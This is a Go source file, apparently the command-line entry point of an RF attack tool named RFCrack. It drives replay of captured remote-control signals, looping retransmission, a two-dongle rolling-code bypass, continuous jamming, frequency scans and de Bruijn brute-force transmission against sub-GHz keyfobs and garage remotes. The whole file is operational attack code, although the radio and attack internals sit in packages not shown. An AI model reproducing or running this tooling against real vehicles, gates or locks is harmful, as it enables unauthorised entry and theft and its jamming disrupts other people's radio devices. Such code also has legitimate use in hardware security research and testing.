package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"time"

	"github.com/manifoldco/promptui"
	"go.uber.org/zap"

	"github.com/cclabsInc/RFCrack/attack"
	"github.com/cclabsInc/RFCrack/capture"
	"github.com/cclabsInc/RFCrack/helper"
	"github.com/cclabsInc/RFCrack/jam"
	"github.com/cclabsInc/RFCrack/rfcat"
	"github.com/cclabsInc/RFCrack/scan"
)

const banner = `
   ___  ___ ___             _
  | _ \| __/ __|_ _ __ _ __| |__
  |   /| _| (__| '_/ _' / _| / /
  |_|_\|_| \___|_| \__,_\__|_\_\

  sub-GHz attack bench: replay, jam, scan, rolling-code bypass
`

var (
	instantReplay = flag.Bool("i", false, "live capture and replay")
	sendSaved     = flag.Bool("s", false, "send a saved capture (requires -u)")
	rollingCode   = flag.Bool("r", false, "rolling code bypass (requires two dongles)")
	jamOnly       = flag.Bool("j", false, "jam the target frequency")
	bruteScan     = flag.Bool("b", false, "incremental frequency scan (requires -v)")
	knownScan     = flag.Bool("k", false, "scan common frequencies")
	deBruijn      = flag.Bool("g", false, "transmit a de Bruijn brute-force sequence")

	uploadPath = flag.String("u", "", "path to a saved capture file for -s")
	frequency  = flag.Uint("F", 315000000, "target frequency in Hz")
	endFreq    = flag.Uint("E", 928000000, "end frequency in Hz for -b")
	increment  = flag.Uint("v", 0, "increment in Hz for -b")
	freqList   = flag.String("f", "", "comma separated frequency list for -k")
	modName    = flag.String("M", "MOD_ASK_OOK", "modulation: MOD_ASK_OOK or MOD_2FSK")

	templatePath = flag.String("c", "", "load radio settings from a saved yaml template")
	saveTemplate = flag.String("save-template", "", "write the effective radio settings to a yaml template and exit")

	variance   = flag.Uint("a", 70000, "jamming frequency variance in Hz")
	upperRSSI  = flag.Int("U", -100, "lower dBm bound for a real button press")
	lowerRSSI  = flag.Int("L", -20, "upper dBm bound for a real button press")
	sessionTmo = flag.Duration("t", 30*time.Second, "rolling code per-capture session timeout")
	windowGap  = flag.Duration("w", time.Second, "rolling code jam window gap")
	probeTime  = flag.Duration("p", 3*time.Second, "signal-presence probe duration per frequency")
	captureDir = flag.String("d", "./captures", "directory for saved captures")
	order      = flag.Int("n", 12, "de Bruijn sequence order for -g")

	verbose = flag.Bool("V", false, "print every scanned frequency, not only hits")
	debug   = flag.Bool("debug", false, "verbose logging")
)

type mode int

const (
	modeNone mode = iota
	modeLiveReplay
	modeSendSaved
	modeRollingCode
	modeJam
	modeBruteScan
	modeKnownScan
	modeDeBruijn
)

func selectMode() (mode, error) {
	selected := modeNone
	pick := func(m mode, on bool) error {
		if !on {
			return nil
		}
		if selected != modeNone {
			return errors.New("pick exactly one attack mode")
		}
		selected = m
		return nil
	}
	for _, p := range []struct {
		m  mode
		on bool
	}{
		{modeLiveReplay, *instantReplay},
		{modeSendSaved, *sendSaved},
		{modeRollingCode, *rollingCode},
		{modeJam, *jamOnly},
		{modeBruteScan, *bruteScan},
		{modeKnownScan, *knownScan},
		{modeDeBruijn, *deBruijn},
	} {
		if err := pick(p.m, p.on); err != nil {
			return modeNone, err
		}
	}
	if selected == modeNone {
		return modeNone, errors.New("no attack mode given, see -h")
	}
	return selected, nil
}

func main() {
	flag.Parse()
	fmt.Print(banner)

	settings, err := effectiveSettings()
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	mod, err := rfcat.ParseModulation(settings.Modulation)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}

	if *saveTemplate != "" {
		if err := settings.SaveTemplate(*saveTemplate); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		fmt.Printf("Settings template written to %s\n", *saveTemplate)
		return
	}

	m, err := selectMode()
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}

	cfg := zap.NewDevelopmentConfig()
	if *debug {
		cfg.Level = zap.NewAtomicLevelAt(zap.DebugLevel)
	} else {
		cfg.Level = zap.NewAtomicLevelAt(zap.InfoLevel)
	}
	logger, err := cfg.Build()
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	defer logger.Sync()

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	c := make(chan os.Signal, 1)
	signal.Notify(c, os.Interrupt)
	go func() {
		<-c
		fmt.Println("\ninterrupted, cleaning up")
		cancel()
	}()

	store, err := capture.NewStore(*captureDir)
	if err != nil {
		logger.Fatal("opening capture store", zap.Error(err))
	}
	eng := attack.NewEngine(store, logger)

	switch m {
	case modeLiveReplay:
		err = runLiveReplay(ctx, eng, settings, mod)
	case modeSendSaved:
		err = runSendSaved(ctx, eng, settings, mod)
	case modeRollingCode:
		err = runRollingCode(ctx, eng, settings, mod, logger)
	case modeJam:
		err = runJam(ctx, settings, logger)
	case modeBruteScan:
		err = runBruteScan(ctx, settings, mod, logger)
	case modeKnownScan:
		err = runKnownScan(ctx, settings, mod, logger)
	case modeDeBruijn:
		err = runDeBruijn(ctx, eng, settings, mod)
	}

	switch {
	case err == nil:
	case errors.Is(err, attack.ErrNoCapture):
		// expected outcome, not a failure
		fmt.Println("No capture found within the session timeout.")
	case errors.Is(err, context.Canceled):
		fmt.Println("Aborted.")
	default:
		logger.Fatal("attack failed", zap.Error(err))
	}
}

// effectiveSettings layers the command line over an optional -c template:
// the template provides the base profile, flags the operator actually set
// override it, and built-in defaults fill the rest.
func effectiveSettings() (rfcat.Settings, error) {
	settings := rfcat.DefaultSettings()
	if *templatePath != "" {
		loaded, err := rfcat.LoadTemplate(*templatePath)
		if err != nil {
			return settings, err
		}
		settings = loaded
	}

	set := map[string]bool{}
	flag.Visit(func(f *flag.Flag) { set[f.Name] = true })
	if set["F"] || *templatePath == "" {
		settings.Frequency = uint32(*frequency)
	}
	if set["M"] || *templatePath == "" {
		settings.Modulation = *modName
	}
	if set["U"] || *templatePath == "" {
		settings.UpperRSSI = *upperRSSI
	}
	if set["L"] || *templatePath == "" {
		settings.LowerRSSI = *lowerRSSI
	}
	return settings, nil
}

func openHandle(idx int, id string, settings rfcat.Settings, freq uint32, mod rfcat.Modulation) (*rfcat.Handle, error) {
	dev, err := rfcat.Open(idx, settings)
	if err != nil {
		return nil, err
	}
	h := rfcat.NewHandle(id, dev)
	if err := h.Configure(freq, mod); err != nil {
		dev.Close()
		return nil, err
	}
	return h, nil
}

func confirm(label string) bool {
	_, err := (&promptui.Prompt{Label: label, IsConfirm: true}).Run()
	return err == nil
}

func runLiveReplay(ctx context.Context, eng *attack.Engine, settings rfcat.Settings, mod rfcat.Modulation) error {
	h, err := openHandle(0, "yd0", settings, settings.Frequency, mod)
	if err != nil {
		return err
	}
	defer h.Close()

	fmt.Printf("Listening on %d Hz %s, press the remote now.\n", h.Frequency, h.Modulation)
	var snagged *capture.Capture
	for snagged == nil {
		if err := ctx.Err(); err != nil {
			return err
		}
		snagged, err = eng.ListenOnce(h, 3*time.Second)
		if err != nil {
			return err
		}
	}

	fmt.Printf("RF CAPTURE:\n%s\n", snagged.Hex())
	if esc, err := helper.FormatHex(snagged.Hex()); err == nil {
		fmt.Printf("AS BYTES:\n%s\n", esc)
	}
	if frames := helper.SplitByZeroRuns(snagged.Hex()); len(frames) > 1 {
		fmt.Println("DISTINCT FRAMES:")
		for _, fr := range frames {
			fmt.Printf("  %s\n", fr)
		}
	}
	fmt.Println()

	if confirm("Replay this capture") {
		if err := eng.Replay(h, snagged, 1, 0); err != nil {
			return err
		}
		fmt.Println("Transmission complete.")
	}

	if confirm("Save this capture for later") {
		id, err := eng.Store().Save(snagged)
		if err != nil {
			return err
		}
		fmt.Printf("Saved as %s (replay later with -s -u %s/%s.cap)\n", id, eng.Store().Dir(), id)
	}
	return nil
}

func runSendSaved(ctx context.Context, eng *attack.Engine, settings rfcat.Settings, mod rfcat.Modulation) error {
	if *uploadPath == "" {
		return errors.New("-s requires -u with a capture file path, e.g. ./captures/test.cap")
	}
	payload, err := capture.LoadFromPath(*uploadPath, settings.Frequency, mod)
	if err != nil {
		return err
	}

	h, err := openHandle(0, "yd0", settings, settings.Frequency, mod)
	if err != nil {
		return err
	}
	defer h.Close()

	_, choice, err := (&promptui.Select{
		Label: "Send mode",
		Items: []string{"once", "forever"},
	}).Run()
	if err != nil {
		return err
	}

	if choice == "forever" {
		fmt.Println("Sending until interrupted (Ctrl-C to stop).")
		for ctx.Err() == nil {
			if err := eng.Replay(h, payload, 1, 0); err != nil {
				return err
			}
			time.Sleep(time.Second)
		}
		return nil
	}
	return eng.Replay(h, payload, 1, 0)
}

func runRollingCode(ctx context.Context, eng *attack.Engine, settings rfcat.Settings, mod rfcat.Modulation, logger *zap.Logger) error {
	fmt.Println("ROLLING CODE REQUIRES 2 YardSticks plugged in.")

	sniff, err := openHandle(0, "sniff", settings, settings.Frequency, mod)
	if err != nil {
		return err
	}
	defer sniff.Close()

	jamDev, err := rfcat.Open(1, settings)
	if err != nil {
		return err
	}
	jamHandle := rfcat.NewHandle("jam", jamDev)
	defer jamHandle.Close()

	bypass := attack.NewBypass(jamHandle, sniff, attack.BypassConfig{
		Frequency:       settings.Frequency,
		Modulation:      mod,
		JammingVariance: uint32(*variance),
		CaptureTimeout:  *sessionTmo,
		WindowGap:       *windowGap,
		UpperRSSI:       settings.UpperRSSI,
		LowerRSSI:       settings.LowerRSSI,
	}, logger)

	fmt.Println("Jamming. Press the keyfob twice near the dongles.")
	res, err := bypass.Run(ctx)
	if err != nil {
		return err
	}

	fmt.Printf("First code (unused by receiver):\n%s\n", res.First.Hex())
	fmt.Printf("Second code:\n%s\n\n", res.Second.Hex())

	if confirm("Send first payload now") {
		if err := eng.Replay(sniff, res.First, 1, 0); err != nil {
			return err
		}
		if confirm("Send second payload too") {
			return eng.Replay(sniff, res.Second, 1, 0)
		}
		return saveCapturePrompt(eng, res.Second)
	}
	return saveCapturePrompt(eng, res.First)
}

func saveCapturePrompt(eng *attack.Engine, c *capture.Capture) error {
	name, err := (&promptui.Prompt{Label: "Choose a name to save the unused code as"}).Run()
	if err != nil {
		return err
	}
	if err := eng.Store().SaveAs(name, c); err != nil {
		return err
	}
	fmt.Printf("Saved as %s/%s.cap, replay it later with -s -u\n", eng.Store().Dir(), name)
	return nil
}

func runJam(ctx context.Context, settings rfcat.Settings, logger *zap.Logger) error {
	dev, err := rfcat.Open(0, settings)
	if err != nil {
		return err
	}
	h := rfcat.NewHandle("jam", dev)
	defer h.Close()

	jammer := jam.New(h, uint32(*variance), logger)
	if err := jammer.Start(ctx, settings.Frequency); err != nil {
		return &attack.DriverError{Handle: h.ID, Op: "start-jam", Err: err}
	}
	defer jammer.Stop()

	fmt.Printf("Jamming on %d Hz. Ctrl-C to stop.\n", settings.Frequency+uint32(*variance))
	<-ctx.Done()
	return nil
}

func runBruteScan(ctx context.Context, settings rfcat.Settings, mod rfcat.Modulation, logger *zap.Logger) error {
	if *increment == 0 {
		return errors.New("-b requires -v with an increment in Hz, e.g. -v 500000")
	}

	h, err := openHandle(0, "yd0", settings, settings.Frequency, mod)
	if err != nil {
		return err
	}
	defer h.Close()

	scanner := scan.New(h, *probeTime, logger)
	probes := scanner.Sweep(ctx, settings.Frequency, uint32(*endFreq), uint32(*increment))
	if !*verbose {
		probes = scan.Hits(probes)
	}
	for p := range probes {
		printProbe(p)
	}
	return scanner.Err()
}

func runKnownScan(ctx context.Context, settings rfcat.Settings, mod rfcat.Modulation, logger *zap.Logger) error {
	freqs := scan.CommonFrequencies
	if *freqList != "" {
		parsed, err := parseFreqList(*freqList)
		if err != nil {
			return err
		}
		freqs = parsed
	}

	h, err := openHandle(0, "yd0", settings, freqs[0], mod)
	if err != nil {
		return err
	}
	defer h.Close()

	scanner := scan.New(h, *probeTime, logger)
	for ctx.Err() == nil {
		probes := scanner.ScanList(ctx, freqs)
		if !*verbose {
			probes = scan.Hits(probes)
		}
		for p := range probes {
			printProbe(p)
		}
		if err := scanner.Err(); err != nil {
			return err
		}
	}
	return nil
}

func runDeBruijn(ctx context.Context, eng *attack.Engine, settings rfcat.Settings, mod rfcat.Modulation) error {
	h, err := openHandle(0, "yd0", settings, settings.Frequency, mod)
	if err != nil {
		return err
	}
	defer h.Close()

	fmt.Printf("Sending order-%d de Bruijn sequence on %d Hz\n", *order, h.Frequency)
	return eng.SendDeBruijn(h, *order)
}

func printProbe(p scan.Probe) {
	if p.Present {
		fmt.Printf("%d Hz: signal! %x\n", p.Frequency, p.Payload)
	} else {
		fmt.Printf("Currently scanning: %d Hz\n", p.Frequency)
	}
}

func parseFreqList(s string) ([]uint32, error) {
	parts := strings.Split(s, ",")
	freqs := make([]uint32, 0, len(parts))
	for _, p := range parts {
		v, err := strconv.ParseUint(strings.TrimSpace(p), 10, 32)
		if err != nil {
			return nil, fmt.Errorf("bad frequency %q in -f list", p)
		}
		freqs = append(freqs, uint32(v))
	}
	if len(freqs) == 0 {
		return nil, errors.New("-f list is empty")
	}
	return freqs, nil
}
